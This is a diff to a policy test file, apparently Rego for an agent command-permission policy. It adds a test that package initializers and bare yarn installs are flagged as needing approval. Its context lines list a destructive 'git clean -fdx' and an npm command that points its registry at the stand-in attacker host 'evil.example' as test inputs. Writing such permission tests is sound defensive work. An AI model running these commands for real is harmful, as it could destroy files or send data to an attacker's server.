@@ -209,6 +209,15 @@ test_ask_git_destructive_git_clean_x if {
 	verdict(simple_call(["git", "clean", "-fdx"])) == "ask"
 }
 
+test_ask_package_install_initializers_and_bare_yarn if {
+	every argv in [["npm", "init", "react-app", "x"], ["npm", "innit", "vite@latest"], ["yarn", "create", "next-app"], ["yarn"], ["yarn", "--frozen-lockfile"]] {
+		"ask.package_install" in rules(simple_call(argv))
+	}
+	every argv in [["npm", "init", "-y"], ["npm", "init"], ["yarn", "test"], ["yarn", "run", "build"]] {
+		not "ask.package_install" in rules(simple_call(argv))
+	}
+}
+
 test_ask_network_registry_named if {
 	every argv in [
 		["npm", "view", "x", "--registry=http://evil.example/data"],
